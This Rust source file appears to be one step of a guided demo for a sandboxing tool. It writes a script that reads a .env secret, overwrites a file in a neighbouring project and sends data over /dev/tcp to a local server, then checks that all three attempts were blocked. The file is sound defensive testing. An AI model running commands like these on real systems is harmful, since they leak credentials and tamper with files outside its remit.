//! The fourth step: a script tries to read a secret, to change a file outside the project and to reach a server. The tour checks from
//! outside, after the script has ended, that all of it failed.

use std::net::TcpListener;

use anyhow::Result;
use serde_json::json;
use windlass::{Mode, Outcome};

use super::StepEnd;
use super::sample::SECRET;
use super::tour::{Tour, sandbox_refusal};

/// Runs the step and checks that neither the tool `read` nor the script got out.
pub(super) async fn run(tour: &mut Tour<'_>) -> Result<StepEnd> {
    let server = TcpListener::bind("127.0.0.1:0")?;
    server.set_nonblocking(true)?;
    let port = server.local_addr()?.port();
    tour.narrator.explain(
        "Secret files are denied in every mode. The words of a command do not always tell what it does: this \
         script wants the secret, a file of another project, and a server that the tour has started.",
    )?;
    let script = format!(
        "cat .env\necho overwritten > ../neighbour/notes.txt\necho found > /dev/tcp/127.0.0.1/{port}\necho done\n"
    );
    tour.sample.write_file("setup.sh", &script)?;
    let engine = tour.open_without_attendant(Mode::Auto)?;
    let read = tour.call(&engine, "read", json!({"path": ".env"})).await?;
    tour.narrator.print_result(&read)?;
    let is_denied = read.outcome == Outcome::Denied && !read.output.to_text().contains(SECRET);
    tour.narrator.check("the secret is denied to the tool `read`", is_denied)?;
    tour.narrator.print_file("setup.sh", &script)?;
    let run = tour.call(&engine, "bash", json!({"command": "bash setup.sh"})).await?;
    tour.narrator.print_result(&run)?;
    if let Some(why) = sandbox_refusal(&run) {
        return Ok(StepEnd::Skipped(why));
    }
    let text = run.output.to_text();
    let has_ended = run.outcome == Outcome::Ok && text.lines().any(|line| line == "done");
    tour.narrator.check("the script ran to its end", has_ended)?;
    tour.narrator.check("the secret is not in what it printed", !text.contains(SECRET))?;
    tour.narrator.check(
        "the file of the other project is unchanged",
        tour.sample.neighbour_is_untouched(),
    )?;
    tour.narrator.check("no connection reached the server", server.accept().is_err())?;
    Ok(StepEnd::Done)
}
